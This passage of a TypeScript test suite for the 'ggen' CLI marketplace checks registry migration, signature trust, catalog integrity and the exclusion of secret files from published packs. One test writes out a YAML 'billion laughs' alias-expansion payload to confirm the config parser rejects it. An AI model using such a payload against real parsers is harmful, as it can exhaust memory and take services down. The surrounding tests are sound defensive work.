    expect(info.versions.map((entry) => entry.version)).toEqual(['1.1.0', '1.0.0', '0.9.0']);
    expect(readFileSync(join(registry, 'keys', 'pinned.json'), 'utf8')).toBe(v2Lock);
    const verified = await runGgen(
      ['marketplace', 'install', 'pinned', '--registry', registry, '--backend', 'v2', '--verify-signature'],
      { home, env: trust },
    );
    expect(verified.code).toBe(0);

    // The same version with other bytes in v1: a listed conflict, and v2's stays.
    const conflicting = writeV1Registry([
      {
        name: 'pinned',
        version: '1.0.0',
        archive: buildTgz([manifest('pinned', '1.0.0'), { path: 'other.txt', content: 'other' }]),
      },
    ]);
    const again = await runGgen(['marketplace', 'registry', 'migrate', '--from', conflicting, '--to', registry], {
      home,
    });
    expect(again.stdout).toContain(
      'warning: pinned@1.0.0 differs between the registries; the v2 version is kept (a published version never changes)',
    );
    expect(
      (
        await runGgen(
          [
            'marketplace',
            'install',
            'pinned@1.0.0',
            '--registry',
            registry,
            '--backend',
            'v2',
            '--verify-signature',
            '--target',
            join(home, 'old'),
          ],
          {
            home,
            env: trust,
          },
        )
      ).code,
    ).toBe(0);
  });

  it('loses no publish made while it runs', async () => {
    const home = freshHome();
    const to = copyOfSampleRegistry();
    const from = copyOfSampleRegistry();
    const packs = ['during-a', 'during-b', 'during-c', 'during-d'].map((name) =>
      writePack(join(home, name), name, '1.0.0'),
    );
    const runs = await Promise.all([
      runGgen(['marketplace', 'registry', 'migrate', '--from', from, '--to', to], { home }),
      ...packs.map((pack) => runGgen(['marketplace', 'publish', pack, '--registry', to], { home })),
    ]);
    expect(runs.map((run) => run.code)).toEqual([0, 0, 0, 0, 0]);
    const catalog = await compactedCatalog(to);
    expect(
      ['during-a', 'during-b', 'during-c', 'during-d'].filter((name) => !catalog.includes(`/package/${name}>`)),
    ).toEqual([]);
  });
});

describe('publish packs what the pack declares, never secrets (finding 16)', () => {
  it('honours files:, .gitignore and .ggenignore, keeps the manifest, README and license, and leaves secrets out', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const pack = writePack(join(home, 'pack'), 'careful-pack', '1.0.0');
    const files: [string, string][] = [
      ['.env', 'API_TOKEN=s3cret'],
      ['.env.production', 'X=1'],
      ['deploy/server.pem', 'KEY'],
      ['signing.key', 'KEY'],
      ['README.md', '# careful'],
      ['LICENSE', 'MIT'],
      ['notes.txt', 'private notes'],
      ['target/out.bin', 'build'],
      ['scratch.txt', 'scratch'],
      ['.gitignore', 'target/\n'],
      ['.ggenignore', 'scratch.txt\n'],
    ];
    for (const [path, content] of files) {
      mkdirSync(join(pack, path, '..'), { recursive: true });
      writeFileSync(join(pack, path), content);
    }
    const everything = await runGgen(['marketplace', 'publish', pack, '--registry', registry, '--dry-run'], { home });
    expect(everything.code).toBe(0);
    const listed = (run: { stdout: string }): string[] =>
      run.stdout
        .split('\n')
        .filter((line) => line.startsWith('  '))
        .map((line) => line.trim());
    expect(listed(everything)).toEqual([
      '.ggenignore',
      '.gitignore',
      'LICENSE',
      'README.md',
      'gpack.yaml',
      'notes.txt',
      'templates/hello.tmpl',
    ]);
    expect(everything.stdout).toContain(
      'left out as secrets (never published): .env, .env.production, deploy/server.pem, signing.key',
    );

    writeFileSync(
      join(pack, 'gpack.yaml'),
      `${readFileSync(join(pack, 'gpack.yaml'), 'utf8')}files:\n  - templates/\n  - .env\n`,
    );
    const declared = await runGgen(['marketplace', 'publish', pack, '--registry', registry], { home });
    expect(declared.code).toBe(0);
    expect(listed(declared)).toEqual(['LICENSE', 'README.md', 'gpack.yaml', 'templates/hello.tmpl']);
    const installed = await runGgen(
      [
        'marketplace',
        'install',
        'careful-pack',
        '--registry',
        registry,
        '--backend',
        'v2',
        '--target',
        join(home, 'gpacks'),
      ],
      { home },
    );
    expect(installed.code).toBe(0);
    expect(tree(join(home, 'gpacks', 'careful-pack'))).toEqual([
      'LICENSE',
      'README.md',
      'gpack.yaml',
      'templates/',
      'templates/hello.tmpl',
    ]);
  });
});

describe('a project ggen.yaml can tighten trust, never loosen it, and says what it changes (findings 9, 23)', () => {
  it("keeps the user's require_signatures and trust, resolves registry: against the file, and names what it set", async () => {
    const home = freshHome();
    const { registry, trust } = await signedRegistry(home, ['1.0.0']);
    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), 'marketplace:\n  require_signatures: true\n');
    const project = mkdtempSync(join(tmpdir(), 'ggen-cloned-repo-'));
    cpSync(copyOfSampleRegistry(), join(project, 'vendor-registry'), { recursive: true });
    writeFileSync(
      join(project, 'ggen.yaml'),
      `marketplace:\n  registry: ./vendor-registry\n  require_signatures: false\n  trusted_keys: [${trust.GGEN_MARKETPLACE_TRUSTED_KEYS ?? ''}]\n`,
    );
    const sub = join(project, 'src', 'deep');
    mkdirSync(sub, { recursive: true });
    // From a subdirectory: registry: is the project's vendor-registry, not ./vendor-registry of the working directory.
    const run = await runGgen(['marketplace', 'install', 'agent-editor', '--target', join(home, 'gpacks')], {
      home,
      cwd: sub,
    });
    expect(run.stderr).toContain(
      `note: ${join(project, 'ggen.yaml')} sets registry: ${join(project, 'vendor-registry')}`,
    );
    expect(run.stderr).toContain(
      `note: ${join(project, 'ggen.yaml')} sets require_signatures: false; ignored, a project file can only tighten signature checks`,
    );
    expect(run.stderr).toContain(
      `note: ${join(project, 'ggen.yaml')} lists trusted_keys; ignored, trust comes from your own config`,
    );
    expect(run.stderr).toMatch(/^error GGEN_E_SIGNATURE_MISSING: agent-editor@1\.0\.0 has no signature/m);
    expect(run.code).toBe(6);
    // The project's trusted key does not make its signed pack trusted either.
    const signed = await runGgen(
      ['marketplace', 'install', 'pinned', '--registry', registry, '--target', join(home, 'gpacks')],
      { home, cwd: sub },
    );
    expect(signed.stderr).toMatch(/^error GGEN_E_SIGNATURE_UNTRUSTED: /m);
    // Tightening is allowed: a project may require signatures the user does not.
    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), 'marketplace: {}\n');
    writeFileSync(join(project, 'ggen.yaml'), 'marketplace:\n  require_signatures: true\n');
    const strict = await runGgen(['marketplace', 'install', 'agent-editor', '--target', join(home, 'strict')], {
      home,
      cwd: sub,
    });
    expect(strict.stderr).toMatch(/^error GGEN_E_SIGNATURE_MISSING: /m);
    expect(strict.stderr).not.toContain('note:');
  });

  it('names the file for YAML aliases that expand past the limit', async () => {
    const home = freshHome();
    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
    const laughs = [
      'a: &a [x, x, x, x, x, x, x, x, x, x]',
      ...'bcdefgh'.split('').map(
        (name, at) =>
          `${name}: &${name} [${Array(10)
            .fill(`*${'abcdefgh'[at] ?? 'a'}`)
            .join(', ')}]`,
      ),
    ];
    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), `${laughs.join('\n')}\nmarketplace:\n  backend: v2\n`);
    const run = await runGgen(['marketplace', 'config', 'show'], { home });
    expect(run.stderr).toMatch(
      new RegExp(
        `^error GGEN_E_CONFIG_PARSE: Config file ${join(home, '.config', 'ggen', 'config.yaml').replaceAll('.', '\\.')} cannot be read: `,
        'm',
      ),
    );
    expect(run.code).toBe(2);
  });
});

describe('a catalog is taken whole, and a changed one is never served stale (findings 19, 20, 21)', () => {
  it('refuses a truncated catalog on sync, leaving the synced store as it was', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const env = { GGEN_MARKETPLACE_BACKEND: 'v2' };
    expect((await runGgen(['marketplace', 'sync', '--registry', registry], { home, env })).code).toBe(0);
    const currentFiles = (dir: string): string[] =>
      existsSync(dir)
        ? readdirSync(dir, { recursive: true, encoding: 'utf8' })
            .filter((name) => name.endsWith('current.json'))
            .map((name) => readFileSync(join(dir, name), 'utf8'))
        : [];
    const synced = currentFiles(join(home, '.cache', 'ggen'));
    expect(synced).toHaveLength(1);
    const catalog = readFileSync(join(registry, 'catalog.nq'), 'utf8');
    for (const cut of [
      catalog.lastIndexOf('\n', catalog.length - 2) + 1,
      Math.floor(catalog.length / 2),
      catalog.indexOf('\n', Math.floor(catalog.length / 2)) + 1,
    ]) {
      writeFileSync(join(registry, 'catalog.nq'), catalog.slice(0, cut));
      const sync = await runGgen(['marketplace', 'sync', '--registry', registry], { home, env });
      expect(sync.stderr).toMatch(/^error GGEN_E_INDEX_INVALID: The v2 catalog .*catalog\.nq is unusable: /m);
      expect(sync.code).toBe(7);
      expect(currentFiles(join(home, '.cache', 'ggen'))).toEqual(synced);
    }
    // A catalog line oxigraph cannot read is coded too, wherever it is read whole.
    writeFileSync(join(registry, 'catalog.nq'), `${catalog}<bad iri> <x> "y" .\n`);
    const sparql = await runGgen(
      ['marketplace', 'sparql', 'SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }', '--registry', registry],
      { home, env },
    );
    expect(sparql.stderr).toMatch(/^error GGEN_E_INDEX_INVALID: The v2 catalog is not valid N-Quads: /m);
    expect(sparql.code).toBe(7);
  });

  it('notices a catalog changed in place with the same size, inode and mtime', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const path = join(registry, 'catalog.nq');
    const before = statSync(path);
    const env = { GGEN_MARKETPLACE_BACKEND: 'v2' };
    // The store was synced well after the catalog was written (outside the racy window).
    utimesSync(path, before.atime, new Date(Date.now() - 60_000));
    expect(
      (await runGgen(['marketplace', 'info', 'agent-editor', '--registry', registry, '--json'], { home, env })).code,
    ).toBe(0);
    const text = readFileSync(path, 'utf8');
    const changed = text.replace('"AI-powered code editor', '"AI-POWERED CODE EDITOR');
    expect(changed).not.toBe(text);
    expect(changed.length).toBe(text.length);
    const { mtime } = statSync(path);
    writeFileSync(path, changed);
    utimesSync(path, before.atime, mtime);
    expect(statSync(path).size).toBe(before.size);
    const info = JSON.parse(
      (await runGgen(['marketplace', 'info', 'agent-editor', '--registry', registry, '--json'], { home, env })).stdout,
    ) as { description: string };
    expect(info.description).toMatch(/^AI-POWERED CODE EDITOR/);
  });

  it('refuses a 15,000-deep dependency chain with a coded error', async () => {
    const home = freshHome();
    const depth = 15_000;
    const archive = buildTgz([manifest('x')]);
    const dir = writeV1Registry(
      Array.from({ length: depth }, (_, at) => ({
        name: `chain-${at}`,
        archive,
        dependencies: at + 1 < depth ? { [`chain-${at + 1}`]: '*' } : {},
      })),
    );
    const run = await runGgen(['marketplace', 'install', 'chain-0', '--backend', 'v1', '--registry', dir], { home });
    expect(run.stderr).toMatch(
      /^error GGEN_E_RESOLUTION_TOO_COMPLEX: Dependencies nest deeper than 1000 levels below chain-0@1\.0\.0$/m,
    );
    expect(run.code).toBe(5);
  });
});
